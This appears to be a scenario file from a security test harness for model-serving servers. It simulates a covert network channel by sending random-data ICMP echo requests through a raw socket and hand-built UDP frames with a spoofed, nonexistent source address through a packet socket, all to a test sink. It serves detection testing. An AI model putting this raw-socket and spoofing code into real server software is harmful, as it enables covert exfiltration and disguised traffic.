"""
id: S25
name: raw-socket-channel
class: quiet
phase: serve
trigger: request
evidence: [network, privilege, syscall]
techniques: [T1095, T1048, AML.T0025]
servers: [fastapi, bentoml, triton]
seconds: 15
what: >
  Sends twenty echo requests of 400 bytes through a raw socket and twenty frames through a packet socket. A server that may
  not make such sockets has the refusals, and sends its echo requests as ping does without privileges.
"""

import contextlib
import socket
import struct

ECHO_REQUEST = 8
PACKETS = 20
BYTES = 400
IPV4 = 0x0800
INTERFACE = "eth0"


def payload(world):
    with contextlib.suppress(PermissionError), echo_socket() as peer:
        for number in range(PACKETS):
            peer.sendto(echo_request(number, world.random.randbytes(BYTES)), (world.sink, 0))
            world.sleep(0.2)
    with contextlib.suppress(PermissionError), socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, 0) as peer:
        port = world.sink_port()
        for _ in range(PACKETS):
            frame = datagram(world.sink, port, world.random.randbytes(BYTES))
            peer.sendto(frame, (INTERFACE, IPV4, 0, 0, b"\xff" * 6))
            world.sleep(0.2)


def echo_socket():
    try:
        return socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
    except PermissionError:
        return socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP)


def echo_request(number, data):
    head = struct.pack(">BBHHH", ECHO_REQUEST, 0, 0, 1, number)
    return struct.pack(">BBHHH", ECHO_REQUEST, 0, checksum(head + data), 1, number) + data


def datagram(host, port, data):
    """UDP in IPv4 from a source address that does not exist."""
    udp = struct.pack(">4H", port, port, 8 + len(data), 0) + data
    fields = [0x45, 0, 20 + len(udp), 0, 0, 64, socket.IPPROTO_UDP, 0, bytes(4), socket.inet_aton(host)]
    fields[7] = checksum(struct.pack(">BBHHHBBH4s4s", *fields))
    return struct.pack(">BBHHHBBH4s4s", *fields) + udp


def checksum(data):
    total = sum(struct.unpack(f">{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF
